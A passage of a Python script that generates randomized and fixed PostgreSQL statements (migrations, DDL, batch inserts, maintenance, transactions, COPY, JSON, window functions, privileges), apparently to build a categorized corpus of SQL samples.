            "SELECT gcd(%d, %d), lcm(%d, %d), factorial(%d)" % (r.randint(2, 500), r.randint(2, 500), r.randint(2, 50), r.randint(2, 50), r.randint(1, 12))])

    # ---- comments and hints
    @add("cx13_comment_leading", "complex_comments_hints")
    def _(r):
        return "/* app=%s route=%s */ SELECT order_id, status FROM forge_orders WHERE customer = %s ORDER BY placed_on DESC LIMIT %d" % (
            r.choice(["forge-web", "forge-api", "worker"]), r.choice(["/orders", "/orders/:id", "/admin/queue"]), q(r.choice(PEOPLE)), r.choice([10, 20]))

    @add("cx13_comment_sqlcommenter", "complex_comments_hints")
    def _(r):
        return ("SELECT clue_id, clue_text FROM crossword_clues WHERE answer_len = %d /*controller='clues',action='index',framework='rails%%3A7.1',traceparent='00-%032x-%016x-01'*/"
                % (r.randint(3, 15), r.getrandbits(128), r.getrandbits(64)))

    @add("cx13_comment_pg_hint", "complex_comments_hints")
    def _(r):
        return "/*+ %s */ SELECT k.kite_id, f.max_altitude_m FROM kites k JOIN kite_flights f ON f.kite_id = k.kite_id WHERE f.festival_day = %s" % (
            r.choice(["HashJoin(k f) SeqScan(k)", "IndexScan(f kite_flights_day_idx)", "Leading((f k)) NestLoop(f k)", "Rows(k f #100)"]), q(rdate(r, 2023, 2025)))

    @add("cx13_comment_trailing_line", "complex_comments_hints")
    def _(r):
        return "UPDATE towel_rentals SET returned_at = now() WHERE rental_id = %d -- %s\n" % (r.randint(1, 99999), r.choice(NOTES).replace("\n", " "))

    @add("cx13_comment_inline_cols", "complex_comments_hints")
    def _(r):
        return ("SELECT mount_id, -- primary key\n       species /* latin name, see taxa table */, pose\n  FROM taxidermy_mounts\n WHERE client_id = %d -- only this client\n ORDER BY mount_id"
                % r.randint(1, 9000))

    @add("cx13_comment_nested", "complex_comments_hints")
    def _(r):
        return "SELECT /* outer /* nested note */ still comment */ count(*) FROM circus_acts WHERE show_id = %d" % r.randint(1, 300)

    # ---- migrations and DDL
    @add("cx13_migration_generated", "complex_migration_script")
    def _(r):
        c = r.choice(["area_cm2", "block_area", "surface_cm2"])
        return ("ALTER TABLE quilt_blocks ADD COLUMN %s numeric GENERATED ALWAYS AS (width_cm * height_cm) STORED; "
                "CREATE INDEX CONCURRENTLY IF NOT EXISTS quilt_blocks_%s_idx ON quilt_blocks (%s)" % (c, c, c)) if r.random() < 0.3 else \
            "ALTER TABLE quilt_blocks ADD COLUMN %s numeric GENERATED ALWAYS AS (width_cm * height_cm) STORED" % c

    @add("cx13_migration_flyway", "complex_migration_script")
    def _(r):
        v = r.randint(1, 120)
        return ('INSERT INTO "flyway_schema_history" ("installed_rank", "version", "description", "type", "script", "checksum", "installed_by", "execution_time", "success") '
                "VALUES (%d, %s, %s, 'SQL', %s, %d, 'forge_app', %d, true)" % (v, q(str(v)), q(r.choice(["add heats", "quench log", "steel stock unique"])), q("V%d__change.sql" % v),
                                                                                r.randint(-2 ** 31, 2 ** 31 - 1), r.randint(5, 3000)))

    @add("cx13_migration_alembic", "complex_migration_script")
    def _(r):
        return "UPDATE alembic_version SET version_num=%s WHERE alembic_version.version_num = %s" % (q("%012x" % r.getrandbits(48)), q("%012x" % r.getrandbits(48)))

    @add("cx13_migration_enum_check", "complex_migration_script")
    def _(r):
        return r.choice([
            "ALTER TYPE act_kind ADD VALUE IF NOT EXISTS %s AFTER 'aerial'" % q(r.choice(["cyr wheel", "hand balancing", "teeterboard"])),
            "ALTER TABLE crew_seating ADD CONSTRAINT crew_seating_seat_chk CHECK (seat_no BETWEEN 1 AND %d) NOT VALID" % r.choice([10, 20, 22]),
            "ALTER TABLE crew_seating VALIDATE CONSTRAINT crew_seating_seat_chk",
            "ALTER TABLE forge_orders ALTER COLUMN status SET DEFAULT 'open', ALTER COLUMN placed_on SET NOT NULL"])

    @add("cx13_ddl_create", "complex_ddl_migration")
    def _(r):
        t = r.choice(["kite_heat_audit", "platen_history", "jar_disposals", "bath_visit_log"])
        return ("CREATE TABLE IF NOT EXISTS %s (id bigint GENERATED BY DEFAULT AS IDENTITY PRIMARY KEY, ref text NOT NULL, note text COLLATE \"C\", "
                "created_at timestamptz NOT NULL DEFAULT now(), day date GENERATED ALWAYS AS ((created_at AT TIME ZONE 'UTC')::date) STORED)" % t)

    @add("cx13_ddl_comment", "complex_ddl_migration")
    def _(r):
        return r.choice(["COMMENT ON TABLE forge_orders IS %s" % q(r.choice(NOTES)), "COMMENT ON COLUMN rikishi.shikona IS 'ring name, in romaji'",
                         "COMMENT ON INDEX quilt_blocks_pattern_idx IS NULL", "COMMENT ON FUNCTION maze_log_lost_child(text, int, interval) IS $c$called by the gate app$c$"])

    @add("cx13_ddl_partition", "complex_ddl_migration")
    def _(r):
        y = r.randint(2024, 2027)
        return "CREATE TABLE IF NOT EXISTS tempering_readings_%d PARTITION OF tempering_readings FOR VALUES FROM ('%d-01-01') TO ('%d-01-01')" % (y, y, y + 1)

    # ---- batch inserts
    @add("cx13_batch_values", "complex_batch_insert")
    def _(r):
        rows = ", ".join("(%d, %s, %s)" % (r.randint(1, 900), q(ts(r)), q(r.choice(POOLS_ONSEN))) for _ in range(r.randint(3, 7)))
        return "INSERT INTO bath_visit_log (guest_id, visited_at, pool_name) VALUES %s" % rows

    @add("cx13_batch_unnest", "complex_batch_insert")
    def _(r):
        n = r.randint(2, 5)
        return "INSERT INTO rikishi_weights (rikishi_id, weighed_on, kg) SELECT * FROM unnest(ARRAY[%s]::int[], ARRAY[%s]::date[], ARRAY[%s]::numeric[])" % (
            ",".join(str(r.randint(1, 700)) for _ in range(n)), ",".join(q(rdate(r)) for _ in range(n)), ",".join("%d.%d" % (r.randint(90, 220), r.randint(0, 9)) for _ in range(n)))

    @add("cx13_batch_upsert", "complex_batch_insert")
    def _(r):
        rows = ", ".join("(%s, %d)" % (q("RB-%04d" % r.randint(0, 9999)), r.randint(1, 50)) for _ in range(r.randint(2, 5)))
        return "INSERT INTO ribbon_stock (ribbon_code, qty) VALUES %s ON CONFLICT (ribbon_code) DO UPDATE SET qty = ribbon_stock.qty + EXCLUDED.qty" % rows

    # ---- maintenance and admin
    @add("cx13_maint", "complex_maintenance_admin")
    def _(r):
        t = r.choice(["forge_orders", "kite_flights", "bath_visit_log", "rikishi_weights", "crossword_clues", "quilt_blocks"])
        return r.choice(["VACUUM (ANALYZE, SKIP_LOCKED) %s" % t, "ANALYZE %s (%s)" % (t, r.choice(["created_at", "id"])), "REINDEX INDEX CONCURRENTLY %s_pkey" % t,
                         "SELECT pg_size_pretty(pg_total_relation_size('%s'))" % t, "SELECT relname, n_dead_tup FROM pg_stat_user_tables WHERE relname = %s" % q(t),
                         "CREATE INDEX CONCURRENTLY IF NOT EXISTS %s_created_brin ON %s USING brin (created_at)" % (t, t),
                         "EXPLAIN (ANALYZE false, BUFFERS false) SELECT * FROM %s WHERE id = %d" % (t, r.randint(1, 99999)),
                         "SELECT pid, wait_event_type, state FROM pg_stat_activity WHERE datname = current_database() AND state <> 'idle'"])

    @add("cx13_admin_settings", "complex_maintenance_admin")
    def _(r):
        return r.choice(["SET statement_timeout = '%ds'" % r.randint(5, 120), "SHOW work_mem", "SELECT current_setting('max_parallel_workers_per_gather')",
                         "SET LOCAL lock_timeout = '%dms'" % r.choice([500, 1000, 3000]), "RESET search_path"])

    # ---- transactions, cursors, prepared statements
    @add("cx13_tx_cursor", "complex_transactions")
    def _(r):
        n = r.choice([50, 100, 500])
        return r.choice(["BEGIN; DECLARE wagon_cursor NO SCROLL CURSOR FOR SELECT * FROM wagons ORDER BY wagon_id; FETCH FORWARD %d FROM wagon_cursor; CLOSE wagon_cursor; COMMIT" % n,
                         "BEGIN ISOLATION LEVEL REPEATABLE READ, READ ONLY",
                         "SAVEPOINT sp_%d; UPDATE cider_barrels SET racked_at = now() WHERE barrel_no = %d; RELEASE SAVEPOINT sp_%d" % ((lambda v: (v, r.randint(1, 300), v))(r.randint(1, 99))),
                         "ROLLBACK TO SAVEPOINT before_bulk", "COMMIT AND NO CHAIN", "START TRANSACTION ISOLATION LEVEL SERIALIZABLE DEFERRABLE",
                         "SELECT pg_advisory_xact_lock(%d)" % r.randint(1, 10 ** 6)])

    @add("cx13_prepared", "complex_parameterized")
    def _(r):
        return r.choice(["PREPARE find_keyslug(int, text, text) AS SELECT slug_id FROM keyslugs WHERE machine_id = $1 AND typeface = $2 AND glyph = $3",
                         "EXECUTE find_keyslug(%d, %s, %s)" % (r.randint(1, 300), q(r.choice(["Pica", "Elite", "Courier 10"])), q(r.choice(["a", "§", "@", "½"]))),
                         "DEALLOCATE PREPARE find_keyslug", "PREPARE heat_times(text) AS SELECT heat_no, finish_ms FROM race_heat_times WHERE regatta = $1"])

    # ---- COPY
    @add("cx13_copy", "complex_copy_stdin")
    def _(r):
        return r.choice(["COPY kite_entries (kite_code, pilot_name, heat_no) FROM STDIN WITH (FORMAT csv, HEADER true)",
                         "COPY (SELECT * FROM forge_orders WHERE placed_on >= %s) TO STDOUT WITH (FORMAT csv, HEADER, FORCE_QUOTE *)" % q(rdate(r)),
                         "COPY rikishi_weights FROM STDIN WITH (FORMAT text, NULL '\\N', DELIMITER E'\\t')",
                         "COPY cider_pressings (variety, pressed_on, juice_litres) FROM STDIN (FORMAT csv, QUOTE '\"', ESCAPE '\\', ENCODING 'UTF8')",
                         "COPY crossword_clues TO STDOUT (FORMAT binary)"]) if r.random() < 0.9 else "COPY (SELECT %d AS n) TO STDOUT" % r.randint(1, 999)

    # ---- introspection
    @add("cx13_introspection", "complex_orm_introspection")
    def _(r):
        t = r.choice(["forge_orders", "kite_flights", "quilt_blocks", "rikishi", "crossword_clues"])
        return r.choice([
            "SELECT a.attname, format_type(a.atttypid, a.atttypmod), a.attnotnull, a.attgenerated FROM pg_attribute a WHERE a.attrelid = %s::regclass AND a.attnum > 0 AND NOT a.attisdropped ORDER BY a.attnum" % q(t),
            "SELECT indexrelid::regclass, indisunique, pg_get_indexdef(indexrelid) FROM pg_index WHERE indrelid = %s::regclass" % q(t),
            "SELECT conname, pg_get_constraintdef(oid) FROM pg_constraint WHERE conrelid = %s::regclass" % q(t),
            "SELECT column_name, data_type, is_nullable, column_default FROM information_schema.columns WHERE table_schema = 'public' AND table_name = %s" % q(t)])

    # ---- PL/pgSQL bodies
    @add("cx13_plpgsql", "complex_plpgsql_body")
    def _(r):
        return r.choice([
            "CREATE OR REPLACE PROCEDURE pitch_big_top(tent int, site text, d date) LANGUAGE plpgsql AS $proc$ BEGIN INSERT INTO tent_pitches (tent_id, site, pitched_on) VALUES (tent, site, d); COMMIT; END $proc$",
            "CREATE OR REPLACE FUNCTION late_fee(rented timestamptz) RETURNS numeric LANGUAGE plpgsql STABLE AS $$ BEGIN RETURN GREATEST(0, extract(epoch FROM now() - rented) / 3600 - %d) * 150; END $$" % r.randint(2, 5),
            "DO $$ BEGIN IF NOT EXISTS (SELECT 1 FROM pg_type WHERE typname = 'act_kind') THEN CREATE TYPE act_kind AS ENUM ('aerial', 'clown', 'juggling'); END IF; END $$",
            "CREATE OR REPLACE FUNCTION touch_updated_at() RETURNS trigger LANGUAGE plpgsql AS $t$ BEGIN NEW.updated_at := now(); RETURN NEW; END $t$"])

    # ---- search
    @add("cx13_search", "complex_search_complex")
    def _(r):
        w = r.choice(["anagram", "river", "hidden", "homophone", "spoonerism"])
        return r.choice([
            "SELECT clue_id, ts_rank(search_vec, q) AS rank FROM crossword_clues, websearch_to_tsquery('english', %s) q WHERE search_vec @@ q ORDER BY rank DESC LIMIT 20" % q(w + " -cryptic"),
            "SELECT clue_id, similarity(clue_text, %s) AS s FROM crossword_clues WHERE clue_text %% %s ORDER BY s DESC LIMIT 10" % (q(w), q(w))])
    return G


# ---------------------------------------------------------------- regression-test-style statements
REGRESS_FIXED = [
 ("merge", "MERGE INTO target13 t USING source13 s ON t.tid = s.sid WHEN MATCHED AND s.delta > 0 THEN UPDATE SET balance = t.balance + s.delta WHEN NOT MATCHED THEN INSERT VALUES (s.sid, s.delta)"),
 ("merge", "MERGE INTO target13 t USING (SELECT 1 AS sid) s ON t.tid = s.sid WHEN MATCHED THEN DELETE WHEN NOT MATCHED THEN DO NOTHING"),
 ("insert_conflict", "INSERT INTO insertconflict13 VALUES (1, 'Apple') ON CONFLICT (key) DO UPDATE SET fruit = excluded.fruit WHERE insertconflict13.fruit <> 'Lime' RETURNING *"),
 ("insert_conflict", "INSERT INTO insertconflict13 AS ict VALUES (2, 'Orange') ON CONFLICT ON CONSTRAINT insertconflict13_pkey DO NOTHING"),
 ("insert_conflict", "INSERT INTO insertconflict13 VALUES (3, 'Kiwi'), (4, 'Pear') ON CONFLICT (key) WHERE fruit IS NOT NULL DO UPDATE SET fruit = excluded.fruit || ' (dup)'"),
 ("with", "WITH RECURSIVE t(n) AS (VALUES (1) UNION ALL SELECT n + 1 FROM t WHERE n < 100) SELECT sum(n) FROM t"),
 ("with", "WITH RECURSIVE search_graph(f, t, label) AS (SELECT * FROM graph13 g UNION ALL SELECT g.* FROM graph13 g, search_graph sg WHERE g.f = sg.t) SEARCH DEPTH FIRST BY f, t SET seq SELECT * FROM search_graph ORDER BY seq"),
 ("with", "WITH RECURSIVE search_graph(f, t, label) AS (SELECT * FROM graph13 g UNION ALL SELECT g.* FROM graph13 g, search_graph sg WHERE g.f = sg.t) CYCLE f, t SET is_cycle USING path SELECT * FROM search_graph"),
 ("with", "WITH t AS MATERIALIZED (SELECT random() AS r FROM generate_series(1, 3)) SELECT count(*) FROM t t1, t t2"),
 ("with", "WITH ins AS (INSERT INTO y13 VALUES (11), (12) RETURNING a) UPDATE y13 SET a = y13.a + 100 FROM ins WHERE y13.a = ins.a RETURNING y13.a"),
 ("with", "WITH del AS (DELETE FROM y13 WHERE a > 10 RETURNING *) SELECT count(*) FROM del"),
 ("window", "SELECT empno, depname, salary, sum(salary) FILTER (WHERE salary > 4000) OVER (PARTITION BY depname) FROM empsalary13 ORDER BY depname, empno"),
 ("window", "SELECT x, last_value(x) OVER (ORDER BY x RANGE BETWEEN 1 PRECEDING AND 1 FOLLOWING EXCLUDE CURRENT ROW) FROM generate_series(1, 10) x"),
 ("window", "SELECT ntile(3) OVER (ORDER BY ten), nth_value(four, 2) OVER (ORDER BY ten ROWS UNBOUNDED PRECEDING) FROM tenk1 WHERE unique2 < 10"),
 ("window", "SELECT cume_dist() OVER w, percent_rank() OVER w FROM tenk1 WHERE unique1 < 10 WINDOW w AS (ORDER BY four)"),
 ("groupingsets", "SELECT a, b, grouping(a, b), sum(v) FROM gstest13 GROUP BY ROLLUP (a, b) ORDER BY a, b"),
 ("groupingsets", "SELECT a, b, sum(v) FROM gstest13 GROUP BY CUBE (a, b) HAVING sum(v) > 2"),
 ("groupingsets", "SELECT a, b, count(*) FROM gstest13 GROUP BY GROUPING SETS ((a), (b), ()) ORDER BY 1, 2"),
 ("groupingsets", "SELECT a, sum(v) FROM gstest13 GROUP BY DISTINCT ROLLUP (a, b), ROLLUP (a)"),
 ("aggregates", "SELECT string_agg(a::text, ',' ORDER BY a DESC), array_agg(DISTINCT b ORDER BY b) FROM aggtest13"),
 ("aggregates", "SELECT count(*) FILTER (WHERE a > 10), avg(b) FILTER (WHERE b IS NOT NULL) FROM aggtest13"),
 ("aggregates", "SELECT percentile_cont(ARRAY[0.25, 0.5, 0.75]) WITHIN GROUP (ORDER BY b) FROM aggtest13"),
 ("aggregates", "SELECT bool_and(a > 0), bool_or(b < 0), every(a IS NOT NULL), bit_and(a), bit_or(a), bit_xor(a) FROM aggtest13"),
 ("aggregates", "SELECT regr_slope(b, a), regr_intercept(b, a), corr(b, a), covar_pop(b, a) FROM aggtest13"),
 ("rangefuncs", "SELECT * FROM unnest(ARRAY[10, 20], ARRAY['a', 'b', 'c']) WITH ORDINALITY AS z(x, y, o)"),
 ("rangefuncs", "SELECT * FROM ROWS FROM (generate_series(1, 3), generate_series(10, 11)) WITH ORDINALITY"),
 ("rangefuncs", "SELECT * FROM jsonb_to_recordset('[{\"a\": 1, \"b\": \"x\"}, {\"a\": 2}]') AS r(a int, b text)"),
 ("rangefuncs", "SELECT t.relname, f.* FROM pg_class t, LATERAL generate_series(1, 2) f WHERE t.relname = 'pg_am'"),
 ("jsonb", "SELECT '{\"a\": [1, 2, {\"b\": null}]}'::jsonb #> '{a,2}', '{\"a\": 1}'::jsonb @> '{}'"),
 ("jsonb", "SELECT jsonb_strip_nulls('{\"a\": null, \"b\": {\"c\": null}}'), jsonb_pretty('[1, {\"x\": 2}]')"),
 ("jsonb", "SELECT jsonb_path_exists('{\"a\": [1, 2, 3]}', '$.a[*] ? (@ > 2)'), jsonb_path_query_first('{\"a\": 5}', '$.a + 1')"),
 ("jsonb", "SELECT '[1, 2, 3]'::jsonb - 1, '{\"a\": 1, \"b\": 2}'::jsonb - 'a', '{\"a\": {\"b\": 1}}'::jsonb #- '{a,b}'"),
 ("json", "SELECT json_build_object('k', 1, 'arr', json_build_array(1, 'two', NULL)), json_object('{a, 1, b, 2}')"),
 ("json", "SELECT * FROM json_each_text('{\"x\": \"1\", \"y\": \"two\"}') ORDER BY key"),
 ("jsonpath", "SELECT '$.a[*] ? (@.b like_regex \"^x\" flag \"i\")'::jsonpath, 'strict $.**{2 to last}'::jsonpath"),
 ("xml", "SELECT xmlelement(name foo, xmlattributes('bar' AS baz), xmlforest(1 AS a, 'two' AS b))"),
 ("xml", "SELECT xpath('/root/item/text()', '<root><item>a</item><item>b</item></root>'::xml)"),
 ("xml", "SELECT xmlparse(content '<abc>x</abc>'), xmlserialize(content xmlcomment('note') AS text)"),
 ("xml", "SELECT * FROM XMLTABLE('/rows/row' PASSING ('<rows><row a=\"1\"/><row a=\"2\"/></rows>'::xml) COLUMNS a int PATH '@a', ord FOR ORDINALITY)"),
 ("tsearch", "SELECT to_tsvector('english', 'The quick brown foxes jumped') @@ to_tsquery('english', 'fox & jump')"),
 ("tsearch", "SELECT ts_headline('english', 'A tempered chocolate bar snaps cleanly', to_tsquery('english', 'chocolate'), 'StartSel=<b>, StopSel=</b>')"),
 ("tsearch", "SELECT websearch_to_tsquery('english', '\"hedge maze\" -minotaur or labyrinth'), phraseto_tsquery('simple', 'fire welding')"),
 ("strings", "SELECT overlay('Txxxxas' placing 'hom' from 2 for 4), position('om' in 'Thomas'), substring('Thomas' from 2 for 3)"),
 ("strings", "SELECT regexp_replace('AAA BBB CCC', '(\\w+)', '<\\1>', 'g'), regexp_matches('foobarbequebaz', '(bar)(beque)')"),
 ("strings", "SELECT 'abc' ^@ 'ab', starts_with('alphabet', 'alph'), unistr('d\\0061t\\+000061')"),
 ("strings", "SELECT normalize(U&'\\0061\\0308', NFC) = U&'\\00E4', U&'\\00E4' IS NFC NORMALIZED"),
 ("strings", "SELECT string_to_table('a|b||c', '|', ''), to_hex(255)"),
 ("numeric", "SELECT to_char(1234567.891, 'FM9G999G999D00'), to_number('12,454.8-', '99G999D9S')"),
 ("numeric", "SELECT 1.5::numeric(4,1) + 2.25, round(1234.5678, -2), ceil(-4.2), floor(4.8)"),
 ("numeric", "SELECT 'NaN'::numeric > 1, 'Infinity'::numeric + 1, numeric '1e-5' * 2"),
 ("horology", "SELECT date_bin('15 minutes', timestamp '2020-02-11 15:44:17', timestamp '2001-01-01')"),
 ("horology", "SELECT age(timestamp '2025-03-01', timestamp '1999-12-31'), justify_days(interval '35 days')"),
 ("horology", "SELECT timestamptz '2025-03-30 00:30 UTC' AT TIME ZONE 'Europe/London', make_interval(days => 10, hours => 2)"),
 ("interval", "SELECT interval '1 year 2 months 3 days 04:05:06.7', interval 'P1Y2M3DT4H5M6S', interval '-1 day +02:03'"),
 ("interval", "SELECT extract(epoch FROM interval '3 days 2 hours'), date_part('minute', interval '90 minutes')"),
 ("arrays", "SELECT (ARRAY[[1, 2], [3, 4]])[2][1], array_dims(ARRAY[[1, 2, 3]]), '{1,2,3}'::int[] || 4"),
 ("arrays", "SELECT array_fill(7, ARRAY[2, 2]), array_replace(ARRAY[1, 2, 5, 4], 5, 3), trim_array(ARRAY[1, 2, 3], 1)"),
 ("arrays", "SELECT ('{a,b,c}'::text[])[2:3], array_upper('{{1},{2}}'::int[], 1)"),
 ("case", "SELECT CASE WHEN i > 100 THEN 'big' WHEN i > 10 THEN 'medium' ELSE 'small' END FROM (VALUES (5), (50), (500)) v(i)"),
 ("case", "SELECT COALESCE(NULLIF(a, 0), NULLIF(b, 0), 42) FROM case13_tbl ORDER BY CASE WHEN a IS NULL THEN 1 ELSE 0 END, a"),
 ("subselect", "SELECT f1 FROM int4_tbl13 WHERE f1 IN (SELECT f1 FROM int4_tbl13 WHERE f1 > 0) AND EXISTS (SELECT 1 FROM int8_tbl13)"),
 ("subselect", "SELECT (SELECT max(unique1) FROM tenk1 WHERE ten = o.ten) FROM onek o WHERE o.unique1 < 5"),
 ("join", "SELECT * FROM j1_tbl13 FULL JOIN j2_tbl13 USING (i) WHERE COALESCE(j1_tbl13.t, '') <> 'x' ORDER BY i"),
 ("join", "SELECT * FROM j1_tbl13 a JOIN LATERAL (SELECT * FROM j2_tbl13 b WHERE b.i = a.i LIMIT 1) ss ON true"),
 ("join", "SELECT * FROM j1_tbl13 NATURAL LEFT JOIN j2_tbl13 AS x (i, k) ORDER BY i NULLS FIRST"),
 ("union", "SELECT 1 AS two UNION SELECT 2 UNION ALL SELECT 2 EXCEPT SELECT 3 ORDER BY 1"),
 ("union", "(SELECT f1 FROM int4_tbl13 ORDER BY f1 LIMIT 2) UNION ALL (SELECT q1 FROM int8_tbl13 LIMIT 1)"),
 ("create_table", "CREATE TABLE gen13 (a int, b int GENERATED ALWAYS AS (a * 2) STORED, c text DEFAULT 'x' COLLATE \"C\")"),
 ("create_table", "CREATE TABLE part13 (id int, region text) PARTITION BY LIST (region)"),
 ("create_table", "CREATE TABLE part13_eu PARTITION OF part13 FOR VALUES IN ('eu', 'uk')"),
 ("create_table", "CREATE UNLOGGED TABLE IF NOT EXISTS scratch13 (LIKE gen13 INCLUDING DEFAULTS INCLUDING GENERATED)"),
 ("alter_table", "ALTER TABLE gen13 ALTER COLUMN c SET STATISTICS 500, ALTER COLUMN a SET NOT NULL"),
 ("alter_table", "ALTER TABLE part13 DETACH PARTITION part13_eu CONCURRENTLY"),
 ("alter_table", "ALTER TABLE gen13 RENAME COLUMN c TO c2"),
 ("identity", "CREATE TABLE itest13 (a int GENERATED ALWAYS AS IDENTITY (START WITH 7 INCREMENT BY 5), b text)"),
 ("identity", "INSERT INTO itest13 (b) OVERRIDING SYSTEM VALUE VALUES ('x')"),
 ("create_index", "CREATE INDEX CONCURRENTLY IF NOT EXISTS gen13_b_idx ON gen13 (b) INCLUDE (c2) WHERE a > 0"),
 ("create_index", "CREATE UNIQUE INDEX gen13_lower_idx ON gen13 (lower(c2) text_pattern_ops) NULLS NOT DISTINCT"),
 ("create_index", "REINDEX (VERBOSE) TABLE CONCURRENTLY gen13"),
 ("comments", "COMMENT ON COLUMN gen13.b IS 'derived: twice a'"),
 ("comments", "COMMENT ON TABLE gen13 IS $$generated columns (regression)$$"),
 ("domain", "CREATE DOMAIN posint13 AS int CHECK (VALUE > 0) NOT NULL"),
 ("enum", "CREATE TYPE rainbow13 AS ENUM ('red', 'orange', 'yellow', 'green', 'blue', 'purple')"),
 ("enum", "SELECT enum_range('orange'::rainbow13, 'green'::rainbow13), enum_first(NULL::rainbow13)"),
 ("sequence", "CREATE SEQUENCE seq13 AS smallint INCREMENT BY -2 MINVALUE -100 MAXVALUE 100 START 50 CYCLE"),
 ("sequence", "SELECT nextval('seq13'), currval('seq13'), setval('seq13', 10, false)"),
 ("portals", "DECLARE foo13 SCROLL CURSOR FOR SELECT * FROM tenk1 ORDER BY unique2"),
 ("portals", "FETCH BACKWARD 3 IN foo13"),
 ("portals", "MOVE FORWARD ALL IN foo13"),
 ("portals", "FETCH ABSOLUTE -1 FROM foo13"),
 ("portals", "CLOSE ALL"),
 ("prepare", "PREPARE q13(text, int, float, boolean, smallint) AS SELECT * FROM tenk1 WHERE string4 = $1 AND (four = $2 OR ten = $3::bigint OR true = $4 OR odd = $5::int)"),
 ("prepare", "EXECUTE q13('AAAAxx', 5::smallint, 10.5::float, false, 4::bigint)"),
 ("prepare", "SELECT name, statement, parameter_types FROM pg_prepared_statements ORDER BY name"),
 ("explain", "EXPLAIN (COSTS OFF, ANALYZE false) SELECT * FROM tenk1 WHERE unique1 = 42"),
 ("explain", "EXPLAIN (VERBOSE, COSTS OFF, FORMAT yaml) SELECT count(*) FROM onek GROUP BY ROLLUP (ten)"),
 ("create_procedure", "CREATE PROCEDURE ptest13(x int, INOUT y int) LANGUAGE sql AS $$ SELECT x + y $$"),
 ("create_procedure", "CALL ptest13(1, NULL)"),
 ("create_procedure", "CREATE PROCEDURE ptest13b(a text) LANGUAGE sql BEGIN ATOMIC INSERT INTO cp_test13 VALUES (1, a); END"),
 ("triggers", "CREATE TRIGGER trg13 BEFORE UPDATE OF a ON gen13 FOR EACH ROW WHEN (OLD.a IS DISTINCT FROM NEW.a) EXECUTE FUNCTION trigger_func13()"),
 ("rowsecurity", "CREATE POLICY p13 ON document13 AS RESTRICTIVE FOR SELECT TO PUBLIC USING (dlevel <= (SELECT seclv FROM uaccount13 WHERE pguser = current_user))"),
 ("rowsecurity", "ALTER TABLE document13 ENABLE ROW LEVEL SECURITY"),
 ("privileges", "GRANT SELECT (a, b) ON gen13 TO regress_priv_user13"),
 ("privileges", "REVOKE ALL PRIVILEGES ON gen13 FROM PUBLIC"),
 ("privileges", "CREATE ROLE regress_priv_user13 NOLOGIN"),
 ("privileges", "SET SESSION AUTHORIZATION regress_priv_user13"),
 ("privileges", "RESET SESSION AUTHORIZATION"),
 ("rules", "CREATE RULE rtest13 AS ON INSERT TO rtest_t13 WHERE new.a > 100 DO INSTEAD NOTHING"),
 ("largeobject", "SELECT lo_creat(-1) IS NOT NULL"),
 ("largeobject", "SELECT lo_unlink(loid) FROM lotest_stash13"),
 ("copy", "COPY copytest13 FROM STDIN (FORMAT csv, FORCE_NULL (b), HEADER match)"),
 ("copy", "COPY (SELECT * FROM copytest13 ORDER BY 1) TO STDOUT WITH (FORMAT csv, QUOTE '''')"),
 ("transactions", "BEGIN; SAVEPOINT s1; SELECT 1/1; ROLLBACK TO s1; COMMIT"),
 ("transactions", "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE, NOT DEFERRABLE"),
 ("plpgsql", "DO $$ DECLARE r record; BEGIN FOR r IN SELECT * FROM generate_series(1, 3) g LOOP RAISE NOTICE 'g=%', r.g; END LOOP; END $$"),
 ("plpgsql", "CREATE FUNCTION trigger_func13() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RAISE NOTICE 'trigger_func13(%) called', TG_ARGV[0]; RETURN NEW; END $$"),
 ("geometry", "SELECT point '(1,2)' <-> point '(4,6)', circle '<(0,0),2>' @> point '(1,1)', box '(0,0),(2,2)' && box '(1,1),(3,3)'"),
 ("inet", "SELECT inet '192.168.1.5/24' << cidr '192.168.1.0/24', host(inet '10.1.2.3/8'), masklen(cidr '10/8'), inet_merge('10.0.0.1', '10.0.1.1')"),
 ("uuid", "SELECT gen_random_uuid() <> gen_random_uuid(), 'a0eebc99-9c0b-4ef8-bb6d-6bb9bd380a11'::uuid"),
 ("collate", "SELECT 'a' < 'B' COLLATE \"C\", 'Å' = 'Å' COLLATE \"POSIX\""),
 ("matview", "CREATE MATERIALIZED VIEW mv13 AS SELECT a, count(*) FROM gen13 GROUP BY a WITH NO DATA"),
 ("matview", "REFRESH MATERIALIZED VIEW CONCURRENTLY mv13"),
 ("stats_ext", "CREATE STATISTICS st13 (ndistinct, dependencies) ON a, b FROM gen13"),
 ("tablesample", "SELECT count(*) FROM tenk1 TABLESAMPLE SYSTEM (50) REPEATABLE (13)"),
 ("drop_if_exists", "DROP TABLE IF EXISTS gen13, part13, scratch13 CASCADE"),
 ("drop_if_exists", "DROP PROCEDURE IF EXISTS ptest13(int, int)"),
]


def regress_rows(r):
    out, add = regress_list("regress13", REGRESS_FIXED)
    for typ, vals in [("int2", ["'-1234'", "'  77  '"]), ("int4", ["'2147483647'", "'-0'"]), ("int8", ["'-9223372036854775808'", "'  123'"]),
                      ("float4", ["'1e-45'", "'-Infinity'"]), ("float8", ["'2.2250738585072014e-308'", "'nan'"]), ("numeric", ["'-1.5e+10'", "'-Infinity'"]),
                      ("date", ["'1999-01-08'", "'January 8, 99 BC'", "'J2451187'", "'infinity'"]), ("time", ["'04:05:06.789'", "'040506'"]),
                      ("timetz", ["'04:05:06 PST'"]), ("timestamp", ["'2004-10-19 10:23:54'", "'yesterday'"]), ("timestamptz", ["'2004-10-19 10:23:54+02'", "'epoch'"]),
                      ("interval", ["'1-2'", "'3 4:05:06'", "'P0001-02-03T04:05:06'"]), ("inet", ["'::ffff:1.2.3.4'"]), ("cidr", ["'192.168/24'"]),
                      ("macaddr8", ["'08:00:2b:01:02:03:04:05'"]), ("uuid", ["'{a0eebc99-9c0b4ef8-bb6d6bb9-bd380a11}'"]), ("bytea", ["'\\x0102ff'", "'abc \\153\\154\\155'"]),
                      ("json", ["'[1, \"a\", null]'", "'{\"k\": {\"n\": 1.5}}'"]), ("jsonb", ["'[]'", "'{\"b\": 2, \"a\": 1}'"]), ("tsvector", ["'fat:2,4 cat:3'"]),
                      ("tsquery", ["'fat & (rat | cat)'", "'sup:*B'"]), ("line", ["'{1,-1,0}'"]), ("box", ["'(1,1),(0,0)'"]), ("polygon", ["'((0,0),(1,1),(1,0))'"]),
                      ("path", ["'[(0,0),(1,1)]'"]), ("int4range", ["'[3,7)'", "'empty'"]), ("tstzrange", ["'[2025-01-01,2025-02-01)'"]),
